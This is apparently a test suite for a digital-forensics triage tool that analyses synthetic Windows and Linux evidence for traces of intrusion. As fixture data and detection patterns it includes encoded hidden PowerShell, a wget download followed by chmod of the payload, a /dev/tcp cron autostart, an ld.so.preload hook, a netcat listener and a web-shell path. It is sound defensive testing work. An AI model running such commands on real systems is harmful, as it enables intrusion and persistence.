import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test, type TestContext } from 'node:test'

import { linuxHost, windowsHost } from '../../test/support/examined-host.ts'
import { key, merged, sz, writeHive, type WrittenKey } from '../../test/support/hive-writer.ts'
import { memoryTree } from '../../test/support/memory-tree.ts'
import { smallProgram } from '../../test/support/signed-program.ts'
import { wmiSubscription } from '../../test/support/wmi-subscription.ts'
import { load } from '../engine/index.ts'
import { RootStore } from '../evidence/authenticode/index.ts'
import { loadImportTable } from '../evidence/import-risk/index.ts'
import { memorySource } from '../evidence/source.ts'
import type { EvidenceTree } from '../evidence/tree.ts'
import type { Event } from '../model/index.ts'
import { analysisLines } from '../model/analysis-lines.ts'
import { createSigma, readRules } from '../rules/sigma/index.ts'
import { analyse } from './analyse.ts'
import type { AnalyseOptions, Analysis } from './analysis.ts'
import { defaultScanLimits } from './findings/scan.ts'

const rules = `title: Encoded PowerShell
id: 11111111-2222-3333-4444-555555555555
level: high
tags: [attack.t1059.001]
logsource: { product: windows, category: process_creation }
detection:
  selection: { CommandLine|contains: ' -enc ' }
  condition: selection
---
title: A program by its digest
id: 66666666-2222-3333-4444-555555555555
level: low
logsource: { product: windows, category: process_creation }
detection:
  selection: { Image|endswith: 'evil.exe', Hashes|contains: 'IMPHASH=' }
  condition: selection
`

interface Lines {
  readonly analysis: Analysis
  readonly folder: string
  readonly lines: (name: string) => Record<string, unknown>[]
}

async function analysed(
  t: TestContext,
  tree: EvidenceTree,
  options: Partial<AnalyseOptions> = {},
): Promise<Lines> {
  const folder = mkdtempSync(join(tmpdir(), 'haechi-analysis-'))
  t.after(() => rmSync(folder, { recursive: true }))
  const analysis = await analyse({
    trees: [tree],
    live: [],
    mediumNotes: [],
    output: folder,
    formats: ['jsonl', 'csv', 'bodyfile'],
    choice: {
      sinceMs: Number.NEGATIVE_INFINITY,
      untilMs: Number.POSITIVE_INFINITY,
      kinds: undefined,
      fits: undefined,
    },
    isFullMft: false,
    sigma: createSigma(readRules([{ source: 'test.yml', text: rules }])),
    scanner: { instance: load().instance(), limits: defaultScanLimits },
    roots: new RootStore(),
    importTable: loadImportTable(),
    nowMs: Date.parse('2026-03-02T00:00:00Z'),
    progress: () => undefined,
    ...options,
  })
  const lines = (name: string): Record<string, unknown>[] =>
    readFileSync(join(folder, name), 'utf8')
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as Record<string, unknown>)
  return { analysis, folder, lines }
}

function findingsOf({ lines }: Lines): string[] {
  return lines('findings.jsonl').map(
    ({ level, by, rule, what }) => `${String(level)} ${String(by)} ${String(rule)}: ${String(what)}`,
  )
}

function some(texts: readonly string[], pattern: RegExp): void {
  assert.ok(
    texts.some((text) => pattern.test(text)),
    `${pattern} is not in:\n${texts.join('\n')}`,
  )
}

test('everything that was left on a Windows is found, each with its record', async (t) => {
  const result = await analysed(t, memoryTree('windows', windowsHost()))
  const { analysis, lines } = result
  const kinds = Object.fromEntries([...analysis.kinds.values()].map(({ kind, count }) => [kind, count]))
  assert.deepEqual(
    { ...kinds, 'system-fact': undefined, 'event-log': undefined },
    {
      'event-log': undefined,
      'system-fact': undefined,
      'run-history': 1,
      'registered-task': 1,
      mft: 2,
      'recycle-bin': 1,
      lnk: 1,
      download: 1,
      found: 1,
      prefetch: 1,
      task: 1,
      service: 1,
      autorun: 5,
    },
  )
  const found = findingsOf(result)
  some(found, /^high sigma 11111111-.*powershell -nop -w hidden -enc/)
  // 4688 has no digests: they are those of the file that lies there.
  some(found, /^low sigma 66666666-/)
  some(found, /^high trace log-cleared: the log Application was cleared/)
  some(found, /^medium trace event-log-gap: 4 records of .*Security\.evtx/)
  some(found, /^high engine Eicar-Test-Signature: \/Users\/bob\/Downloads\/eicar\.com/)
  some(found, /^medium trace timestomp: .*stamped\.exe/)
  some(found, /^low trace hidden-task: \\Update/)
  some(found, /^high trace task-without-descriptor: \\Hidden: C:\\Users\\bob\\AppData\\evil\.exe/)
  some(found, /^high trace unusual-autostart: Loader: powershell\.exe/)
  for (const { evidence, by, rule } of lines('findings.jsonl')) {
    if (rule === 'task-without-descriptor') continue
    const { kind, line } = evidence as { kind: string; line: number }
    assert.equal(lines(`artefacts/${kind}.jsonl`)[line - 1]?.['kind'], kind, `${String(by)} ${String(rule)}`)
  }
  const [program] = analysis.kinds.get('service')?.shown ?? []
  const { program: facts } = { ...program?.data } as { program?: Record<string, unknown> }
  assert.equal(facts?.['path'], '/Users/bob/AppData/evil.exe')
  assert.match(String(facts?.['sha256']), /^[0-9a-f]{64}$/)
  // There are no catalogs: what carries no signature may be signed by one.
  assert.equal(facts?.['status'], 'unknown')
  assert.ok(analysis.omissions.some((text) => text.includes('CatRoot')))
  assert.deepEqual(analysis.host.map(({ name, value }) => `${name}: ${value}`).toSorted(), [
    'build: 19045',
    'computer name: PC-7',
    'product: Windows 10 Pro',
  ])
})

test('the timeline is in order, has every time, and its lines are as documented', async (t) => {
  const { analysis, folder, lines } = await analysed(t, memoryTree('windows', windowsHost()))
  const rows = lines('timeline.jsonl')
  assert.equal(rows.length, analysis.timeline.total)
  const times = rows.map(({ time }) => String(time).padEnd(28, '0').replace('Z', '0'))
  assert.deepEqual(times, times.toSorted())
  for (const row of rows) analysisLines['timeline-row'].schema.parse(row)
  for (const finding of lines('findings.jsonl')) analysisLines.finding.schema.parse(finding)
  for (const name of readdirSync(join(folder, 'artefacts'))) {
    for (const record of lines(`artefacts/${name}`)) analysisLines.artefact.schema.parse(record)
  }
  const last = rows.find(({ kind, is }) => kind === 'prefetch' && is === 'last run')
  assert.equal(last?.['time'], '2026-03-01T10:02:30.0000000Z')
  assert.match(String(lines('artefacts/prefetch.jsonl')[Number(last?.['line']) - 1]?.['title']), /EVIL\.EXE/)
  const csv = readFileSync(join(folder, 'timeline.csv'), 'utf8').split('\n')
  assert.equal(csv[0], 'Time,What,Kind,Source,Title,Line')
  assert.equal(csv.length, rows.length + 2)
  const body = readFileSync(join(folder, 'timeline.body'), 'utf8').trim().split('\n')
  assert.ok(body.every((line) => line.split('|').length === 11))
  assert.equal(existsSync(join(folder, '.sorting')), false)
})

test('what was detected joins the processes around it into an incident', async (t) => {
  const { analysis } = await analysed(t, memoryTree('windows', windowsHost()))
  const incident = analysis.incidents.find(({ steps }) =>
    steps.some(({ detections }) => detections.some(({ name }) => name === 'Encoded PowerShell')),
  )
  const labels = incident?.nodes.filter(({ kind }) => kind === 'process').map(({ label }) => label) ?? []
  some(labels, /powershell\.exe/)
  some(labels, /cmd\.exe/)
  // A pid is given again: what is started has an identity.
  assert.ok(incident?.nodes.some(({ id }) => id === `process:PC-7:272:${Date.parse('2026-03-01T10:02:00Z')}`))
  assert.ok(
    incident?.links.some(
      ({ kind, why }) => kind === 'started' && /cmd\.exe.* started powershell\.exe/.test(why),
    ),
  )
})

test('a started program has the digest of its file and its parent’s command line, with and without rules', async (t) => {
  const seen: unknown[] = []
  const fits = (event: Event): boolean => {
    if (event.process?.executable?.endsWith('evil.exe') === true && event.event.action === 'exec')
      seen.push([
        event.process.hash?.sha256?.length,
        event.process.parent?.command_line?.slice(0, 15),
        'image' in (event.hx ?? {}),
      ])
    return true
  }
  const choice = { sinceMs: -Infinity, untilMs: Infinity, kinds: undefined, fits }
  await analysed(t, memoryTree('windows', windowsHost()), { choice })
  await analysed(t, memoryTree('windows', windowsHost()), { choice, sigma: undefined })
  // The damaged copy of the log tells it as well.
  assert.deepEqual(
    seen,
    Array.from({ length: 4 }, () => [64, 'powershell -nop', true]),
  )
})

test('programs that ran are told with what lies there now, and what Windows took stock of is compared', async (t) => {
  const evil = smallProgram()
  const sha1 = createHash('sha1').update(evil).digest('hex')
  const file = (name: string, digest: string): WrittenKey =>
    key(`Root\\InventoryApplicationFile\\${name}`, [
      sz('LowerCaseLongPath', `c:\\users\\bob\\appdata\\${name}`),
      sz('FileId', `0000${digest}`),
    ])
  const { lines, analysis } = await analysed(
    t,
    memoryTree('windows', {
      ...windowsHost(),
      '/Windows/AppCompat/Programs/Amcache.hve': writeHive({
        name: 'ROOT',
        subkeys: merged([file('evil.exe', sha1), file('other.exe', '1'.repeat(40)), file('gone.exe', sha1)]),
      }),
      '/Users/bob/AppData/evil.exe': evil,
      '/Users/bob/AppData/other.exe': evil,
    }),
  )
  const programOf = ({ data }: Record<string, unknown>): unknown => {
    const { what, isSameFile, program } = data as Record<string, unknown>
    const { path, status } = { ...(program as Record<string, unknown> | undefined) }
    return [what, path, status, isSameFile]
  }
  const history = lines('artefacts/run-history.jsonl').filter(
    ({ data }) => (data as { source: string }).source === 'Amcache',
  )
  assert.deepEqual(history.map(programOf), [
    ['c:\\users\\bob\\appdata\\evil.exe', '/Users/bob/AppData/evil.exe', 'unknown', true],
    ['c:\\users\\bob\\appdata\\other.exe', '/Users/bob/AppData/other.exe', 'unknown', false],
    ['c:\\users\\bob\\appdata\\gone.exe', undefined, undefined, undefined],
  ])
  assert.deepEqual(lines('artefacts/prefetch.jsonl').map(programOf), [
    [undefined, '/Users/bob/AppData/evil.exe', 'unknown', undefined],
  ])
  assert.deepEqual(
    analysis.findings
      .filter(({ rule }) => rule === 'amcache-other-file')
      .flatMap(({ samples }) => samples.map(({ what }) => what)),
    ['c:\\users\\bob\\appdata\\other.exe'],
  )
})

test('a subscription of WMI is a record, a finding and an autostart', async (t) => {
  const result = await analysed(
    t,
    memoryTree('windows', {
      '/Windows/System32/wbem/Repository/OBJECTS.DATA': wmiSubscription('Updater', 'C:\\x\\evil.exe -s'),
    }),
  )
  assert.deepEqual(
    result.lines('artefacts/wmi.jsonl').map(({ data }) => (data as { kind: string }).kind),
    ['filter', 'consumer', 'binding'],
  )
  some(findingsOf(result), /^high trace wmi-subscription: Updater: C:\\x\\evil\.exe -s/)
  assert.equal(result.analysis.kinds.get('autorun')?.count, 1)
})

test('logins are summed up by who, from where and how', async (t) => {
  const { analysis } = await analysed(t, memoryTree('windows', windowsHost()))
  assert.deepEqual(
    analysis.logons
      .filter(({ host }) => host === 'PC-7')
      .map(({ user, from, method, outcome }) => [user, from, method, outcome]),
    [
      ['PC\\bob', '203.0.113.9', 'remote-interactive', 'success'],
      ['PC\\bob', '203.0.113.9', 'remote-interactive', 'failure'],
    ],
  )
})

test('a damaged log is told, and loses nothing of the others', async (t) => {
  const { analysis } = await analysed(t, memoryTree('windows', windowsHost()))
  some(
    analysis.notes.map(({ source, text }) => `${source}: ${text}`),
    /Broken\.evtx: /,
  )
})

test('times, kinds and filters choose rows of the timeline and nothing else', async (t) => {
  const tree = (): EvidenceTree => memoryTree('windows', windowsHost())
  const whole = await analysed(t, tree())
  const narrow = await analysed(t, tree(), {
    choice: {
      sinceMs: Date.parse('2026-03-01T10:02:00Z'),
      untilMs: Date.parse('2026-03-01T10:02:59Z'),
      kinds: new Set(['prefetch', 'event-log']),
      fits: (event) => !(event.message ?? '').includes('whoami'),
    },
  })
  const rows = narrow.lines('timeline.jsonl')
  assert.deepEqual(
    rows.map(({ time, kind }) => `${String(time).slice(11, 19)} ${String(kind)}`),
    ['10:02:00', '10:02:00', '10:02:30', '10:02:40', '10:02:40'].map(
      (time) => `${time} ${time === '10:02:30' ? 'prefetch' : 'event-log'}`,
    ),
  )
  assert.equal(narrow.analysis.findingCount, whole.analysis.findingCount)
  assert.equal(narrow.analysis.incidents.length, whole.analysis.incidents.length)
  assert.equal(narrow.analysis.artefacts, whole.analysis.artefacts)
})

test('every file of the $MFT comes when it is asked for', async (t) => {
  const { analysis, lines } = await analysed(t, memoryTree('windows', windowsHost()), { isFullMft: true })
  assert.ok((analysis.kinds.get('mft')?.count ?? 0) >= 4)
  some(
    lines('artefacts/mft.jsonl').map(({ title }) => String(title)),
    /usual\.txt/,
  )
})

test('everything that was left on a Linux is found, and one login of two sources is one', async (t) => {
  const result = await analysed(t, memoryTree('linux', linuxHost()))
  const { analysis } = result
  const found = findingsOf(result)
  some(found, /^high trace second-root: toor/)
  some(found, /^high trace unusual-autostart: \/etc\/ld\.so\.preload: \/usr\/lib\/libhide\.so/)
  some(found, /^high trace unusual-autostart: \/etc\/cron\.d\/sync: .*\/dev\/tcp\//)
  some(found, /weblog weblog\.sqli: sqli by 203\.0\.113\.9/)
  some(found, /^(?:high|medium) engine .*: \/var\/www\/html\/up\.php/)
  assert.deepEqual(
    analysis.logons.map(({ user, from, outcome, count }) => [user, from, outcome, count]),
    [
      ['root', '203.0.113.9', 'success', 1],
      ['root', '203.0.113.9', 'failure', 1],
    ],
  )
  const history = result.lines('artefacts/shell-history.jsonl')
  assert.deepEqual(
    history.map(({ title, times }) => [title, (times as { time: string }[])[0]?.time]),
    [
      ['root: wget http://203.0.113.9/x -O /tmp/x', '2026-03-01T10:01:00.000Z'],
      ['root: chmod +x /tmp/x', '2026-03-01T10:01:10.000Z'],
    ],
  )
  assert.deepEqual(
    analysis.host.map(({ name, value }) => `${name}: ${value}`),
    ['host name: web1', 'operating system: Debian GNU/Linux 12 (bookworm)'],
  )
})

test('a file that cannot be opened is a note, not the end', async (t) => {
  const tree = memoryTree('windows', windowsHost())
  const { AppError } = await import('../base/app-error.ts')
  const hostile: EvidenceTree = {
    ...tree,
    open(path, stream) {
      if (path.endsWith('System.evtx')) throw new AppError('not-found', 'input/output error')
      return tree.open(path, stream)
    },
  }
  const { analysis } = await analysed(t, hostile)
  assert.ok(
    analysis.notes.some(
      ({ source, text }) => source.endsWith('System.evtx') && text === 'input/output error',
    ),
  )
  assert.ok((analysis.kinds.get('prefetch')?.count ?? 0) === 1)
})

test('what was read from a running host has its place in the timeline, its bodyfile too', async (t) => {
  const body = '0|/tmp/a|b|12|r/rrwxr-xr-x|0|0|77|1772359260|1772359261|1772359262|0\nno line\n'
  const { lines, analysis } = await analysed(t, memoryTree('linux', {}), {
    live: [
      {
        path: 'case.tar.zst',
        liveNames: ['processes.jsonl', 'bodyfile', 'memory/7.bin'],
        rows: (name) =>
          name === 'processes' ? [{ pid: 7, command_line: 'nc -l', start: '2026-03-01T10:00:00Z' }] : [],
        // Parts end where they end, also within a line.
        live: () => [body.slice(0, 30), body.slice(30)].map((part) => memorySource(Buffer.from(part))),
      },
    ],
  })
  assert.deepEqual(
    lines('timeline.jsonl').map(({ time, is, kind, title }) => [time, is, kind, title]),
    [
      ['2026-03-01T10:00:00Z', 'started', 'live-processes', 'nc -l'],
      ['2026-03-01T10:01:00.000Z', 'accessed', 'file-times', '/tmp/a|b'],
      ['2026-03-01T10:01:01.000Z', 'modified', 'file-times', '/tmp/a|b'],
      ['2026-03-01T10:01:02.000Z', 'changed', 'file-times', '/tmp/a|b'],
    ],
  )
  assert.deepEqual(
    analysis.notes.filter(({ source }) => source === 'case.tar.zst').map(({ text }) => text),
    ['1 lines are none of a bodyfile'],
  )
})
